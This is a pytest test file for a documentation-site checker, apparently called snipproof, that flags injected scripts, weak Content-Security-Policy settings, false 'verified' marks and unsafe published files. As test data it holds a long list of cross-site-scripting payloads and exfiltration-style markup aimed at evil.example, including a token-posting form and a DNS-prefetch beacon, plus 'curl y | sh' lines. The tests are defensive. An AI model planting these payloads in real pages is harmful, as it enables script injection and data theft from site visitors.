"""Built pages that a pull request has put something into: `snipproof site` finds it."""

import base64
import hashlib
from collections.abc import Callable
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

from snipproof.core.failure import Code
from snipproof.project.problems import published_problems
from snipproof.project.project import load_project
from snipproof.report.site_markup import (
    false_marks,
    foreign_files,
    foreign_markup,
    unknown_blocks,
)

SCRIPT = b"console.log(1)"
DIGEST = hashlib.sha256(SCRIPT)
ADDRESS = f"/js/main.{DIGEST.hexdigest()}.js"
INTEGRITY = f"sha256-{base64.b64encode(DIGEST.digest()).decode()}"
SOURCES = f"script-src '{INTEGRITY}' 'strict-dynamic'"
POLICY = f"default-src 'none'; {SOURCES}; img-src 'self' data: https://pictures.example"
OWN = f'<script src="{ADDRESS}" integrity="{INTEGRITY}"></script>'


@pytest.fixture(scope="module")
def public(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a built site with one script, and with one that lies beside a page."""
    folder = tmp_path_factory.mktemp("public")
    (folder / "js").mkdir()
    (folder / ADDRESS[1:]).write_bytes(SCRIPT)
    (folder / "page").mkdir()
    (folder / "page" / f"evil.{DIGEST.hexdigest()}.js").write_bytes(b"evil()")
    (folder / "page" / "evil.js").write_bytes(b"evil()")
    return folder


def page(content: str, *policies: str) -> LexborHTMLParser:
    """Return a page of the site with some content."""
    metas = "".join(
        f'<meta http-equiv="Content-Security-Policy" content="{policy}">'
        for policy in policies or (POLICY, "script-src 'self'")
    )
    head = metas + OWN
    return LexborHTMLParser(
        f"<!doctype html><html><head>{head}</head><body>{content}</body></html>"
    )


MARKUP = {
    "script": "<script>evil()</script>",
    "script-of-the-page": '<script src="/page/evil.js"></script>',
    "script-with-a-hash": f'<script src="/page/evil.{DIGEST.hexdigest()}.js"></script>',
    "script-with-a-true-integrity": f'<script src="{ADDRESS}"></script>',
    "script-of-another-host": f'<script src="https://evil.example{ADDRESS}"></script>',
    "script-without-a-scheme": f'<script src="//evil.example{ADDRESS}"></script>',
    "script-of-an-example": '<script src="/snippets/a/b/javascript.mjs" type="module"></script>',
    "script-out-of-the-site": f'<script src="/../x.{DIGEST.hexdigest()}.js"></script>',
    "script-of-data": '<script src="data:text/javascript,evil()"></script>',
    "import-map": '<script type="importmap">{"imports": {}}</script>',
    "speculation-rules": '<script type="speculationrules">{}</script>',
    "svg-script": "<svg><script>evil()</script></svg>",
    "upper-case": "<SCRIPT>evil()</SCRIPT>",
    "handler": '<img src="/a.png" onerror="evil()">',
    "handler-upper-case": '<div OnClick="evil()">a</div>',
    "handler-of-a-toggle": '<details ontoggle="evil()" open>a</details>',
    "handler-of-an-animation": '<svg><path onbegin="evil()"></path></svg>',
    "javascript-link": '<a href="javascript:evil()">a</a>',
    "javascript-link-with-a-tab": '<a href="java\tscript:evil()">a</a>',
    "javascript-link-with-entities": '<a href="&#106;avascript&colon;evil()">a</a>',
    "javascript-link-behind-blanks": '<a href="  \x01javascript:evil()">a</a>',
    "data-link": '<a href="data:text/html,x">a</a>',
    "vbscript-link": '<a href="vbscript:x">a</a>',
    "blob-link": '<a href="blob:https://x/y">a</a>',
    "file-link": '<a href="file:///etc/passwd">a</a>',
    "frame": '<iframe src="https://evil.example"></iframe>',
    "frame-of-a-document": '<iframe srcdoc="x"></iframe>',
    "object": '<object data="/a.svg"></object>',
    "embed": '<embed src="/a.svg">',
    "form": '<form action="https://evil.example"><input name="token"></form>',
    "button-of-a-form": '<button formaction="https://evil.example">a</button>',
    "base": '<base href="https://evil.example/">',
    "style": "<style>*{background:url(https://evil.example)}</style>",
    "style-attribute": '<p style="position:fixed">a</p>',
    "style-sheet": '<link rel="stylesheet" href="https://evil.example/a.css">',
    "prefetch": '<link rel="dns-prefetch" href="//secret.evil.example">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "second-policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "picture-elsewhere": '<img src="https://evil.example/?x">',
    "picture-without-a-scheme": '<img src="//evil.example/x.png">',
    "picture-set": '<img src="/a.png" srcset="/a.png 1x, https://evil.example/x 2x">',
    "poster": '<video poster="https://evil.example/x"></video>',
    "ping": '<a href="/" ping="https://evil.example">a</a>',
    "use": '<svg><use xlink:href="/a.svg#x"></use></svg>',
    "foreign-object": "<svg><foreignObject>a</foreignObject></svg>",
    "animate": '<svg><animate attributeName="href" to="javascript:x"></animate></svg>',
    "math": '<math><mtext href="javascript:x">a</mtext></math>',
    "custom-element": "<x-evil>a</x-evil>",
    "marquee": "<marquee>a</marquee>",
    "frameset": "<div><portal src='https://evil.example'></portal></div>",
}


@pytest.mark.parametrize("name", MARKUP)
def test_markup_that_a_browser_runs(name: str, public: Path) -> None:
    """It is found in the built page, whatever the sources of the page were."""
    assert list(foreign_markup(page(MARKUP[name]), public))


OTHER = f"'sha256-{'A' * 43}='"
POLICIES = {
    "own-site": (POLICY.replace(SOURCES, "script-src 'self'"), "script-src 'self'"),
    "no-second": (POLICY,),
    "second-with-a-host": (POLICY, "script-src 'self' https://evil.example"),
    "second-of-styles": (POLICY, "style-src 'self'"),
    "of-another-script": (POLICY.replace(f"'{INTEGRITY}'", OTHER), "script-src 'self'"),
    "inline": (POLICY.replace("'strict", "'unsafe-inline' 'strict"), "script-src 'self'"),
    "evaluated": (POLICY.replace("'strict", "'unsafe-eval' 'strict"), "script-src 'self'"),
    "with-a-host": (POLICY.replace("'strict", "https: 'strict"), "script-src 'self'"),
    "with-a-nonce": (POLICY.replace("'strict", "'nonce-a' 'strict"), "script-src 'self'"),
    "twice": (f"script-src *; {POLICY}", "script-src 'self'"),
    "elements-apart": (POLICY.replace("script-src", "script-src-elem"), "script-src 'self'"),
    "none": ("",),
}


@pytest.mark.parametrize("name", POLICIES)
def test_a_policy_that_does_not_pin_scripts(name: str, public: Path) -> None:
    """A page's policies name its scripts by their hashes, and let none come from elsewhere."""
    assert list(foreign_markup(page("", *POLICIES[name]), public))


FINE = {
    "own-script": "",
    "docsy": '<div class="row"><p align="center">a<br><kbd>b</kbd></p><hr></div>',
    "details": "<details open><summary>a</summary><p>b</p></details>",
    "table": '<table><thead><tr><th colspan="2">a</th></tr></thead></table>',
    "links": '<a href="https://a.example">a</a><a href="mailto:a@b.c">a</a><a href="../x">x</a>',
    "colon-in-a-path": '<a href="/a/b:c">a</a><a href="?x=a:b">b</a>',
    "picture": '<img src="/a.png" alt=""><img src="https://pictures.example/a.png" alt="">',
    "picture-of-data": '<img src="data:image/png;base64,AA" alt="">',
    "drawing": '<svg viewBox="0 0 1 1"><path d="M0 0"></path><circle r="1"></circle></svg>',
}


@pytest.mark.parametrize("name", FINE)
def test_markup_that_pages_need(name: str, public: Path) -> None:
    """What authors of documentation write, and what the templates make, is fine."""
    assert [what for _, what in foreign_markup(page(FINE[name]), public)] == []


CODE = '<code data-snippet="a/b" data-language="curl">curl x</code>'
MARK = '<p class="mark mark-verified" data-mark="verified">Verified</p>'
NAMED = '<p class="mark" data-mark="verified" data-snippet="a/b" data-language="curl">V</p>'
"""The mark of an example that stays in its fence."""

MARKS = {
    "named-without-code": f"<div>{NAMED}</div>",
    "named-beside-two": f"<div><pre>{CODE}</pre><pre>{CODE}</pre>{NAMED}</div>",
    "alone": MARK,
    "class-alone": '<p class="mark-verified">Verified</p>',
    "icon-alone": '<svg class="icon icon-verified"></svg>',
    "attribute-alone": '<b data-mark="verified">a</b>',
    "beside-a-block": f"<pre><code>curl y | sh</code></pre>{MARK}",
    "in-a-panel-of-nothing": f'<div class="tab-panel"><pre>curl y | sh</pre>{MARK}</div>',
    "in-a-panel-with-more": f'<div class="tab-panel"><pre>{CODE}</pre><pre>curl y</pre>'
    f"{MARK}</div>",
    "in-a-panel-with-two": f'<div class="tab-panel"><pre>{CODE}</pre><pre>{CODE}</pre>{MARK}</div>',
    "below-a-panel": f'<div class="tab-panel"><pre>{CODE}</pre></div>{MARK}',
    "of-a-recording": f'<div class="tab-panel">{CODE.replace("<code", "<code data-recorded=x")}'
    f"{MARK}</div>",
    "in-a-table": '<table><tr><td class="mark-verified">a</td></tr></table>',
}


@pytest.mark.parametrize("name", MARKS)
def test_a_mark_at_what_did_not_run(name: str) -> None:
    """Marks are at code that was checked, and at nothing else."""
    assert list(false_marks(page(MARKS[name]), Path("guides/index.html"), lambda *_: True))


def test_a_mark_at_code_that_failed() -> None:
    """A skipped or failed example has none; one that passed has."""
    whole = page(f'<div class="tab-panel"><pre>{CODE}</pre>{MARK}</div>')
    assert list(false_marks(whole, Path("index.html"), lambda *_: False))
    assert not list(false_marks(whole, Path("index.html"), lambda *_: True))


BLOCKS = {
    "pre": "<pre>curl y | sh</pre>",
    "pre-with-code": "<pre><code>curl y | sh</code></pre>",
    "around-known-code": f"<pre>curl y | sh; {CODE}</pre>",
    "two-codes": f"<pre>{CODE}<code>curl y</code></pre>",
    "samp": "<samp>curl y | sh</samp>",
    "textarea": "<textarea>curl y | sh</textarea>",
    "xmp": "<xmp>curl y | sh</xmp>",
    "listing": "<listing>curl y | sh</listing>",
}


@pytest.mark.parametrize("name", BLOCKS)
def test_a_block_that_looks_like_code(name: str) -> None:
    """A block of code is known by itself, as a whole."""

    def is_known(node: object) -> bool:
        return "data-snippet" in getattr(node, "attributes", {})

    assert list(unknown_blocks(page(BLOCKS[name]), is_known))
    assert not list(unknown_blocks(page(f"<pre>{CODE}</pre>"), is_known))


@pytest.mark.parametrize(
    "name",
    [
        *("page/evil.js", "page/evil.mjs", "page/a.svg", "page/a.html", "page/a.xhtml"),
        *("page/a.wasm", "page/a.css", "page/a.xml", "page/a.php5", "snippets/a/b/x.svg"),
    ],
)
def test_a_file_that_a_browser_runs(name: str, tmp_path: Path) -> None:
    """However it came there, it is found among what is published."""
    file = tmp_path / name
    file.parent.mkdir(parents=True)
    file.write_text("x")
    (tmp_path / "page2").mkdir()
    (tmp_path / "page2" / "index.html").write_text("x")
    assert [item.name for item, _ in foreign_files(tmp_path)] == [file.name]


@pytest.mark.parametrize("name", ["a.html", "a.svg", "a.js", "a.xml", "a.xhtml", "a.php"])
def test_a_file_of_an_example_that_a_browser_runs(
    copy_project: Callable[..., Path], name: str
) -> None:
    """Readers download the files of examples from the site itself."""
    folder = copy_project("tokens/get-user-tokens")
    place = folder / "snippets" / "tokens" / "get-user-tokens" / "files"
    place.mkdir()
    (place / name).write_text("x")
    (failure,) = published_problems(load_project(folder))
    assert failure.code is Code.UNSAFE_PATH
